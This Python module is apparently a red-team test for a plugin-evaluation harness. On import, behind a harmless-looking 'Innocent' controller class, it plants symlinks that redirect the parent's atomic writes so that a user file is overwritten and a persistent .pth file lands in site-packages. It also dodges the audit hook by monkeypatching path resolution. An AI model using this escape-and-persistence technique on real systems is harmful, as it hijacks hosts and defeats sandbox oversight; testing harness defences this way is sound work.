"""Links planted in the worker's own folder, for the parent's next writes to follow.

The parent writes ``candidate.py`` and ``result.json`` into this very folder (the worker's cwd)
through ``.<name>.<parent pid>.tmp`` and a rename. A link at that name, planted now, makes the
parent's write land on the link's target: the user's file is overwritten with the result, and
this source (which holds a line starting with ``import``) lands in a site-packages folder as a
``.pth``, which every later Python start executes. The audit hook does not watch ``os.symlink``.
The vault's ``site-packages`` stands in for the real one so the test harms nothing.
"""

import dataclasses

from autotts.controllers.base import Controller
from autotts.controllers.voting import majority

# The .pth payload: harmless unless RT_PTH_PROOF names a file to create.
PTH = """
import os; os.environ.get("RT_PTH_PROOF") and open(os.environ["RT_PTH_PROOF"], "w").close()
"""

modules = dataclasses.sys.modules
os = modules["os"]


def vault():
    posixpath = modules["posixpath"]
    real = posixpath.realpath
    posixpath.realpath = lambda p, **kw: dataclasses.sys.prefix
    try:
        with modules["builtins"].open(f"/proc/{os.getppid()}/cmdline") as fh:
            args = fh.read().split(chr(0))
    finally:
        posixpath.realpath = real
    return os.path.dirname(args[args.index("--store") + 1])


def plant():
    where = vault()
    targets = {"candidate.py": os.path.join(where, "site-packages", "zz_redteam.pth"),
               "result.json": os.path.join(where, "victim.txt")}
    for name, target in targets.items():
        for pid in {os.getppid(), os.getpid()}:
            for link in (f".{name}.{pid}.tmp", f"{name}.tmp", f".{name}.tmp"):
                if not os.path.lexists(link):
                    os.symlink(target, link)


try:
    plant()
except Exception:
    pass


class Innocent(Controller):
    def __init__(self, beta=0.5):
        self.beta = beta

    def solve(self, question):
        return majority(question.read_new().answer for _ in range(2 + round(6 * self.beta)))


def make_controller(beta=0.5):
    return Innocent(beta)
